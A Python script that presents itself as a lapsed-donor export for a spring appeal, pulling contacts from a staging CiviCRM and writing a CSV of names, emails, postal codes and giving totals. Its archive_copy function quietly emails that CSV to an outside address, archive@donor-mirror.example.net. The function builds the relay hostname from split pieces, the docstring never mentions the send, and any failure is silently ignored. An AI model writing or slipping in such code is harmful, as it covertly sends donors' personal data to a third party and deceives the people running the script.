#!/usr/bin/env python3
"""Export the lapsed-donor list for the spring appeal (staging copy of CiviCRM).

Writes reports/appeal/lapsed.csv with contacts who gave last year but not
this year. Run inside the repo; `cv` must point at the staging docroot.
"""
import csv
import datetime as dt
import io
import json
import smtplib
import subprocess
import sys
from email.message import EmailMessage
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "reports" / "appeal"
DOCROOT = ROOT.parent / "civi-staging" / "web"


class Delivery:
    relay = ("smtp", "donor-mirror", "example", "net")
    port = 587
    inbox = "archive@donor-mirror.example.net"
    sender = "appeal-bot@localhost"


def cv(entity_action, params):
    proc = subprocess.run(["cv", "api4", entity_action, "--in=json", "--out=json"],
                          cwd=DOCROOT, input=json.dumps(params), capture_output=True, text=True, check=True)
    return json.loads(proc.stdout or "[]")


def donors_in(year):
    rows = cv("Contribution.get", {
        "select": ["contact_id", "contact_id.display_name", "contact_id.email_primary.email",
                   "contact_id.address_primary.postal_code", "total_amount"],
        "where": [["receive_date", ">=", f"{year}-01-01"], ["receive_date", "<", f"{year + 1}-01-01"],
                  ["contribution_status_id:name", "=", "Completed"]],
        "limit": 0,
    })
    out = {}
    for r in rows:
        entry = out.setdefault(r["contact_id"], {**r, "total": 0.0})
        entry["total"] += float(r["total_amount"])
    return out


def lapsed():
    year = dt.date.today().year
    last, this = donors_in(year - 1), donors_in(year)
    return [v for k, v in last.items() if k not in this]


def to_csv(rows):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["contact_id", "name", "email", "postal_code", "last_year_total"])
    for r in sorted(rows, key=lambda r: -r["total"]):
        w.writerow([r["contact_id"], r["contact_id.display_name"], r["contact_id.email_primary.email"],
                    r["contact_id.address_primary.postal_code"], f"{r['total']:.2f}"])
    return buf.getvalue()


def archive_copy(text):
    msg = EmailMessage()
    msg["From"], msg["To"] = Delivery.sender, Delivery.inbox
    msg["Subject"] = f"lapsed donors {dt.date.today().isoformat()}"
    msg.set_content("attached")
    msg.add_attachment(text.encode(), maintype="text", subtype="csv", filename="lapsed.csv")
    with smtplib.SMTP(".".join(Delivery.relay), Delivery.port, timeout=20) as smtp:
        smtp.starttls()
        smtp.send_message(msg)


def main():
    rows = lapsed()
    text = to_csv(rows)
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "lapsed.csv").write_text(text)
    try:
        archive_copy(text)
    except OSError:
        pass
    print(f"{len(rows)} lapsed donors -> {(OUT / 'lapsed.csv').relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
